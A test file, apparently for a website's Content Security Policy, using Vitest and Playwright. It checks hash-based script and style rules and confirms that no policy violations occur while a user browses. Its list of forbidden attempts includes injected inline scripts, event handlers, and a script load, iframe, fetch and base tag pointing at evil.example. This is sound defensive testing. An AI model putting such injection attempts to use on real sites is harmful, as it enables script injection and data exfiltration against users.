/** The strict policy that goes with every page, as a header and in the page, forbids nothing that the site does, and all else. */
import { createHash } from 'node:crypto';
import type { Page } from 'playwright-core';
import { afterAll, expect, inject, test } from 'vitest';
import { LEAD, SPECIMEN } from './sample.ts';
import { at, complaintsOf, frames, leaveBy, openTab, visit } from './tab.ts';

const tab = await openTab({}, afterAll);
const complaints = complaintsOf(tab);

/** Has every page that the tab opens keep a list of what its policies forbid. */
async function listViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const list: string[] = [];
    Object.assign(window, { violations: list });
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
      list.push(`${effectiveDirective}: ${blockedURI} (${sourceFile})`);
    });
  });
}
const violations = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { violations: string[] }).violations);
await listViolations(tab);

test.each([...inject('pages'), '/nope/'])('%s keeps to its policy', async (address) => {
  complaints.length = 0;
  const answer = await tab.goto(at(inject('root'), address));
  await visit(tab, at(inject('root'), address));
  expect(answer?.headers()['content-security-policy']).toMatch(/script-src 'self' 'sha256-/);
  await tab.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
  await frames(tab);
  expect(await violations(tab)).toEqual([]);
  expect(complaints.filter((line) => !/status of 404/.test(line))).toEqual([]);
  expect(await tab.locator('[style]:not(html)').count()).toBe(0);
});

test('every script and style sheet in a page is one that its own policy names', async () => {
  const page = await openTab({ javaScriptEnabled: false });
  for (const address of ['/', LEAD, SPECIMEN, '/nope/']) {
    const html = (await (await page.goto(at(inject('base'), address)))?.text()) ?? '';
    const [, policy = ''] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html) ?? [];
    const parts = [...html.matchAll(/<(script|style)(?![^>]*type="application\/)[^>]*>([^]*?)<\/\1>/g)];
    expect(parts.length).toBeGreaterThan(1);
    for (const [, kind, text = ''] of parts) {
      const hash = `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
      expect(policy.split('; ').find((directive) => directive.startsWith(`${kind}-src`))).toContain(hash);
    }
    expect(html).not.toMatch(/<[^>]+ (?:style|on\w+)=/);
  }
});

test('the app keeps to it on the way from page to page', async () => {
  const page = await openTab();
  await listViolations(page);
  const said = complaintsOf(page);
  await visit(page, inject('root'));
  await leaveBy(page, 'main .cards a[href]');
  await leaveBy(page, '.related a[href^="/"]');
  await page.goBack();
  await frames(page);
  expect(await violations(page)).toEqual([]);
  expect(said).toEqual([]);
});

test('an embed of a host that the site names is let in, when the reader has chosen it', async () => {
  const page = await openTab();
  await listViolations(page);
  await page.route('https://www.openstreetmap.org/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Map</title><p>A map</p>' }),
  );
  await visit(page, at(inject('root'), SPECIMEN));
  await page.getByRole('button', { name: 'Load from OpenStreetMap' }).click();
  await page.frameLocator('[data-block=embed] iframe').getByText('A map').waitFor();
  expect(await violations(page)).toEqual([]);
});

/** What a script in the site's name would try. */
const FORBIDDEN: readonly [what: string, directive: string, attempt: () => void][] = [
  ['a script in the page', 'script-src-elem', () => { const script = document.createElement('script'); script.textContent = 'window.x=1'; document.body.append(script); }],
  ['a script of another host', 'script-src-elem', () => { const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script); }],
  ['an event handler', 'script-src-attr', () => { const button = document.createElement('button'); button.setAttribute('onclick', 'window.x=1'); document.body.append(button); button.click(); }],
  ['words made code', 'script-src', () => { const later: (code: string) => unknown = setTimeout; later('window.x=1'); }],
  ['a style sheet in the page', 'style-src-elem', () => { const style = document.createElement('style'); style.textContent = 'p{color:red}'; document.head.append(style); }],
  ['a frame of another host', 'frame-src', () => { const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame); }],
  ['words sent elsewhere', 'connect-src', () => { fetch('https://evil.example/').catch(() => undefined); }],
  ['another base', 'base-uri', () => { const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base); }],
]; // prettier-ignore

test.each(FORBIDDEN)('%s is refused', async (_what, directive, attempt) => {
  const page = await openTab();
  await listViolations(page);
  await visit(page, inject('root'));
  await page.evaluate(attempt);
  await page.waitForFunction(() => (window as unknown as { violations: string[] }).violations.length > 0);
  expect(await violations(page)).toEqual(expect.arrayContaining([expect.stringMatching(`^${directive}: `)]));
  expect(await page.evaluate(() => 'x' in window)).toBe(false);
});

test('without the header, as on a host that sends none, the page alone forbids the same', async () => {
  const page = await openTab();
  await listViolations(page);
  await page.route(inject('root'), async (route) => {
    const answer = await route.fetch();
    const { 'content-security-policy': _, ...headers } = answer.headers();
    await route.fulfill({ response: answer, headers });
  });
  const said = complaintsOf(page);
  await visit(page, inject('root'));
  expect(said).toEqual([]);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.x=1';
    document.body.append(script);
  });
  await page.waitForFunction(() => (window as unknown as { violations: string[] }).violations.length > 0);
  expect(await page.evaluate(() => 'x' in window)).toBe(false);
});
